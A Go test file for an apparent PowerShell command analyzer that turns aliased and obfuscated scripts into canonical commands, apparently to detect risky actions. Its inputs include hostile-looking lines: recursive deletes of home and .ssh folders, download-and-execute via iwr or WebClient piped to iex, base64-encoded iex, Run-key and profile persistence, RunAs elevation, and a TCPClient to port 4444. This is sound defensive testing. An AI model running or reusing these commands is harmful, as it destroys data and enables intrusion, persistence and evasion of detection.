package powershell

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

// utf16b64 is what -EncodedCommand and [Text.Encoding]::Unicode want.
func utf16b64(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// show writes a command on one line: name[alias] args | flags.
func show(c Command) string {
	var b strings.Builder
	b.WriteString(c.Name)
	if c.Alias != "" {
		b.WriteString("[" + c.Alias + "]")
	}
	for _, a := range c.Args {
		b.WriteByte(' ')
		switch {
		case a.Bound:
			b.WriteString(":")
		case a.More:
			b.WriteString(",")
		}
		b.WriteString(a.String())
	}
	for _, r := range c.Redirs {
		b.WriteString(" " + r.Op + r.Target.String())
	}
	var flags []string
	if len(c.Via) > 0 {
		flags = append(flags, "via "+strings.Join(c.Via, "/"))
	}
	if c.UnknownCode {
		flags = append(flags, "unknown-code")
	}
	if c.Privileged {
		flags = append(flags, "privileged")
	}
	if c.StdinFrom >= 0 {
		flags = append(flags, "stdin")
	}
	if len(c.Input) > 0 {
		var in []string
		for _, a := range c.Input {
			in = append(in, a.String())
		}
		flags = append(flags, "input "+strings.Join(in, ","))
	}
	if len(flags) > 0 {
		b.WriteString(" | " + strings.Join(flags, ", "))
	}
	return strings.ReplaceAll(b.String(), Unknown, "?")
}

func testConfig() *Config {
	env := map[string]string{"userprofile": `C:\Users\me`, "temp": `C:\Users\me\AppData\Local\Temp`}
	return &Config{
		Getenv: func(name string) (string, bool) {
			v, ok := env[strings.ToLower(name)]
			return v, ok
		},
		Home: `C:\Users\me`,
		Dir:  `C:\work\proj`,
		ReadFile: func(p string) ([]byte, error) {
			if p == `C:\work\proj\setup.ps1` {
				return []byte("Remove-Item C:\\tmp -Recurse\n$x = 1"), nil
			}
			return nil, errNotFound
		},
	}
}

type notFound struct{}

func (notFound) Error() string { return "not found" }

var errNotFound = notFound{}

var walkTests = []struct {
	name string
	src  string
	want []string
	core bool
}{
	{"RemoveItem", `Remove-Item -Recurse -Force C:\Users\me\src`, []string{`Remove-Item -Recurse -Force C:\Users\me\src`}, false},
	{"AliasEnv", `rm -r -fo $env:USERPROFILE\.ssh`, []string{`Remove-Item[rm] -r -fo C:\Users\me\.ssh`}, false},
	{"CaseCanon", `remove-ITEM x`, []string{`Remove-Item x`}, false},
	{"Variable", `$p='C:\x'; ri $p -Recurse`, []string{`Remove-Item[ri] C:\x -Recurse`}, false},
	{"CallConcat", `$a='Remove'; $b='-Item'; & ($a+$b) C:\x`, []string{`Remove-Item C:\x`}, false},
	{"CallRmdir", `& ('rm'+'dir') C:\x`, []string{`Remove-Item[rmdir] C:\x`}, false},
	{"Iex", `iex 'rm C:\x -r'`, []string{`Invoke-Expression[iex] rm C:\x -r`, `Remove-Item[rm] C:\x -r | via Invoke-Expression`}, false},
	{"IexBase64", `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('` + utf16b64(`rm C:\x`) + `')))`,
		[]string{`[System.Convert]::FromBase64String ` + utf16b64(`rm C:\x`), `Invoke-Expression[iex] rm C:\x`, `Remove-Item[rm] C:\x | via Invoke-Expression`}, false},
	{"ForEach", `Get-ChildItem -Recurse | ForEach-Object { Remove-Item $_.FullName }`,
		[]string{`Get-ChildItem -Recurse`, `ForEach-Object { Remove-Item $_.FullName } | stdin, input C:\work\proj\*`, `Remove-Item C:\work\proj\* | via ForEach-Object {}`}, false},
	{"StaticDelete", `[IO.Directory]::Delete('C:\x', $true)`, []string{`[System.IO.Directory]::Delete C:\x True`}, false},
	{"SetEnv", `[Environment]::SetEnvironmentVariable('Path', 'x', 'User')`, []string{`[System.Environment]::SetEnvironmentVariable Path x User`}, false},
	{"Registry", `Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value y`,
		[]string{`Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value y`}, false},
	{"Profile", `Add-Content $PROFILE 'iex x'`, []string{`Add-Content C:\Users\me\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1 iex x`}, false},
	{"ProfileCore", `ac $PROFILE 'x'`, []string{`Add-Content[ac] C:\Users\me\Documents\PowerShell\Microsoft.PowerShell_profile.ps1 x`}, true},
	{"StartProcess", `Start-Process powershell -Verb RunAs -ArgumentList '-c rm x'`,
		[]string{`Start-Process powershell -Verb RunAs -ArgumentList -c rm x`, `powershell -c rm x | via Start-Process, privileged`}, false},
	{"Cmd", `cmd /c "rd /s /q C:\x"`, []string{`cmd /c rd /s /q C:\x`}, false},
	{"SplatHash", `$p = @{Path='C:\x'; Recurse=$true; Force=$false}; Remove-Item @p`, []string{`Remove-Item -Path C:\x -Recurse -Force :False`}, false},
	{"PipeByPropertyName", `[pscustomobject]@{LiteralPath='C:\x'} | Remove-Item -Recurse`,
		[]string{`Remove-Item -Recurse | input C:\x`}, false},
	{"PipeNewObjectProperty", `New-Object psobject -Property @{PSPath='C:\y'} | Remove-Item`,
		[]string{`New-Object psobject -Property @{PSPath=C:\y}`, `Remove-Item | stdin, input C:\y`}, false},
	{"SplatArray", `$a = 'C:\x', 'C:\y'; Remove-Item @a`, []string{`Remove-Item C:\x C:\y`}, false},
	{"HereString", "$s = @\"\nrm $env:TEMP\\x\n\"@\niex $s", []string{`Invoke-Expression[iex] rm C:\Users\me\AppData\Local\Temp\x`, `Remove-Item[rm] C:\Users\me\AppData\Local\Temp\x | via Invoke-Expression`}, false},
	{"Backticks", "R`e`m`ov`e-`It`em C:\\x", []string{`Remove-Item C:\x`}, false},
	{"WebClient", `(New-Object Net.WebClient).DownloadString('http://x') | iex`,
		[]string{`New-Object Net.WebClient`, `[System.Net.WebClient].DownloadString http://x`, `Invoke-Expression[iex] | unknown-code`}, false},
	{"IwrIex", `iwr http://x | iex`, []string{`Invoke-WebRequest[iwr] http://x`, `Invoke-Expression[iex] | unknown-code, stdin`}, false},
	{"Curl51", `curl http://x`, []string{`Invoke-WebRequest[curl] http://x`}, false},
	{"CurlCore", `curl http://x`, []string{`curl http://x`}, true},
	{"CdDir", `cd C:\a; rm b`, []string{`Set-Location[cd] C:\a`, `Remove-Item[rm] b`}, false},
	{"ScriptFile", `. .\setup.ps1`, []string{`.\setup.ps1`, `Remove-Item C:\tmp -Recurse | via . setup.ps1`}, false},
	{"ScriptMissing", `& .\nope.ps1`, []string{`.\nope.ps1 | unknown-code`}, false},
	{"SetAlias", `Set-Alias zap Remove-Item; zap C:\x`, []string{`Set-Alias zap Remove-Item`, `Remove-Item[zap] C:\x`}, false},
	{"Function", "function f { rm C:\\x }\nf", []string{`Remove-Item[rm] C:\x | via function f`, `f`}, false},
	{"ScriptBlockCreate", `& ([ScriptBlock]::Create('rm C:\x'))`,
		[]string{`[System.Management.Automation.ScriptBlock]::Create rm C:\x`, `Remove-Item[rm] C:\x | via & {}/[ScriptBlock]::Create`}, false},
	{"ScriptBlockUnknown", `[ScriptBlock]::Create($x).Invoke()`,
		[]string{`[System.Management.Automation.ScriptBlock]::Create ? | unknown-code`, `? | unknown-code`}, false},
	{"InvokeScript", `$ExecutionContext.InvokeCommand.InvokeScript('rm C:\x')`,
		[]string{`[System.Management.Automation.CommandInvocationIntrinsics].InvokeScript rm C:\x`, `Remove-Item[rm] C:\x | via InvokeScript`}, false},
	{"CharJoin", `iex (-join [char[]](114,109,32,120))`, []string{`Invoke-Expression[iex] rm x`, `Remove-Item[rm] x | via Invoke-Expression`}, false},
	{"Format", `& ('{1}{0}' -f 've-Item','Remo') x`, []string{`Remove-Item x`}, false},
	{"Replace", `& ('Rxmove-Item' -replace 'x','e') y`, []string{`Remove-Item y`}, false},
	{"Reverse", `& (-join 'meti-evomer'[-1..-11]) y`, []string{`Remove-Item y`}, false},
	{"GetCommand", `& (Get-Command Remove-Item) x`, []string{`Get-Command Remove-Item`, `Remove-Item x`}, false},
	{"UnknownCall", `& $cmd x`, []string{`? x | unknown-code`}, false},
	{"Branch", `$d='a'; if ($c) { $d='b' }; rm $d`, []string{`Remove-Item[rm] ?`}, false},
	{"Redirect", `echo x > C:\out.txt`, []string{`Write-Output[echo] x >C:\out.txt`}, false},
	{"ExprRedirect", `'iex x' >> $PROFILE`, []string{`Out-File >>C:\Users\me\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1`}, false},
	{"StopParsing", `icacls --% C:\x /grant %USERPROFILE%:F`, []string{`icacls C:\x /grant C:\Users\me:F`}, false},
	{"Tilde", `rm ~\.ssh -r`, []string{`Remove-Item[rm] C:\Users\me\.ssh -r`}, false},
	{"InvokeCommand", `Invoke-Command -ScriptBlock { rm x } -ComputerName y`,
		[]string{`Invoke-Command -ScriptBlock { rm x } -ComputerName y`, `Remove-Item[rm] x | via Invoke-Command {}`}, false},
	{"Chain", `git pull && rm x || echo no`, []string{`git pull`, `Remove-Item[rm] x`, `Write-Output[echo] no`}, true},
	{"Colon", `Remove-Item -Recurse:$false x`, []string{`Remove-Item -Recurse :False x`}, false},
	{"Comma", `Remove-Item a,b`, []string{`Remove-Item a ,b`}, false},
	{"Subexpr", `Write-Host "x $(rm y) z"`, []string{`Remove-Item[rm] y`, `Write-Host x ? z`}, false},
	{"Controls", "foreach ($f in $list) { del $f }\nwhile ($true) { break }\ntry { rd a } catch { rd b } finally { rd c }\nswitch ($x) { 'a' { ri d } default { ri e } }",
		[]string{`Remove-Item[del] ?`, `Remove-Item[rd] a`, `Remove-Item[rd] b`, `Remove-Item[rd] c`, `Remove-Item[ri] d`, `Remove-Item[ri] e`}, false},
	{"UnicodeDash", "Remove-Item \u2013Recurse x", []string{`Remove-Item -Recurse x`}, false},
	{"ModuleQualified", `Microsoft.PowerShell.Management\Remove-Item x`, []string{`Remove-Item x`}, false},
	{"WScript", `(New-Object -ComObject WScript.Shell).Run('cmd /c del x')`,
		[]string{`New-Object -ComObject WScript.Shell`, `[WScript.Shell].Run cmd /c del x`, `cmd /c del x | via [WScript.Shell].Run`}, false},

	// What pipelines carry, and paths computed at run time.
	{"PipeItems", `Get-ChildItem C:\x -Filter *.log | Remove-Item`,
		[]string{`Get-ChildItem C:\x -Filter *.log`, `Remove-Item | stdin, input C:\x\*.log`}, false},
	{"PipeInclude", `gci -Recurse -Include bin,obj | ri -r`,
		[]string{`Get-ChildItem[gci] -Recurse -Include bin ,obj`, `Remove-Item[ri] -r | stdin, input C:\work\proj\bin,C:\work\proj\obj`}, false},
	{"PipeString", `'C:\x' | Remove-Item`, []string{`Remove-Item | input C:\x`}, false},
	{"PipeWhere", `Get-Item C:\x | Where-Object { $_.Length -gt 0 } | Remove-Item`,
		[]string{`Get-Item C:\x`, `Where-Object { $_.Length -gt 0 } | stdin, input C:\x`, `Remove-Item | stdin, input C:\x`}, false},
	{"PipeUnknown", `Get-Content list.txt | Remove-Item`, []string{`Get-Content list.txt`, `Remove-Item | stdin`}, false},
	{"ItemDelete", `(Get-Item ~\x).Delete($true)`, []string{`Get-Item C:\Users\me\x`, `[System.IO.Directory]::Delete C:\Users\me\x True`}, false},
	{"TempPath", `ri -r (Join-Path ([IO.Path]::GetTempPath()) 'c')`,
		[]string{`[System.IO.Path]::GetTempPath`, `Join-Path C:\Users\me\AppData\Local\Temp\ c`, `Remove-Item[ri] -r C:\Users\me\AppData\Local\Temp\c`}, false},
	{"FolderPath", `ri ([Environment]::GetFolderPath('Desktop'))`,
		[]string{`[System.Environment]::GetFolderPath Desktop`, `Remove-Item[ri] C:\Users\me\Desktop`}, false},
	{"GetVariable", `ri (Get-Variable HOME -ValueOnly)`, []string{`Get-Variable HOME -ValueOnly`, `Remove-Item[ri] C:\Users\me`}, false},
	{"ParamBlock", `& { param($a, $b) ri $b } x C:\y`, []string{`Remove-Item[ri] C:\y | via & {}`}, false},
	{"ParamBlockNamed", `& { param($a) ri $a } -a C:\y`, []string{`Remove-Item[ri] C:\y | via & {}`}, false},
	{"WriteThenRun", `Set-Content $env:TEMP\c.ps1 'ri C:\x'; & $env:TEMP\c.ps1`,
		[]string{`Set-Content C:\Users\me\AppData\Local\Temp\c.ps1 ri C:\x`, `C:\Users\me\AppData\Local\Temp\c.ps1`, `Remove-Item[ri] C:\x | via & c.ps1`}, false},
	{"WrittenThenChanged", `Set-Content c.ps1 'echo hi'; Copy-Item x.ps1 c.ps1; & .\c.ps1`,
		[]string{`Set-Content c.ps1 echo hi`, `Copy-Item x.ps1 c.ps1`, `.\c.ps1 | unknown-code`}, false},
	{"BareExpression", `$env:USERPROFILE`, []string{`Write-Output C:\Users\me`}, false},
	{"BareLiteral", `'hello'`, nil, false},
	{"ProfileAllHosts", `'x' | Out-File -Append $PROFILE.CurrentUserAllHosts`,
		[]string{`Out-File -Append C:\Users\me\Documents\WindowsPowerShell\profile.ps1 | input x`}, false},
	{"FileSystemObject", `(New-Object -ComObject Scripting.FileSystemObject).DeleteFolder('C:\x', $true)`,
		[]string{`New-Object -ComObject Scripting.FileSystemObject`, `[Scripting.FileSystemObject].DeleteFolder C:\x True`}, false},
	{"TcpClient", `New-Object Net.Sockets.TCPClient('10.0.0.1', 4444)`,
		[]string{`New-Object Net.Sockets.TCPClient 10.0.0.1 ,4444`, `[System.Net.Sockets.TcpClient]::new 10.0.0.1 4444`}, false},
}

func TestCommands(t *testing.T) {
	for _, tt := range walkTests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := testConfig()
			cfg.Core = tt.core
			res := Commands(tt.src, cfg)
			var got []string
			for _, c := range res.Commands {
				got = append(got, show(c))
			}
			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
				t.Errorf("Commands(%q):\ngot:\n  %s\nwant:\n  %s", tt.src, strings.Join(got, "\n  "), strings.Join(tt.want, "\n  "))
			}
			for _, p := range res.Problems {
				t.Errorf("problem: %v %s %s", p.Kind, p.Pos, p.Msg)
			}
		})
	}
}
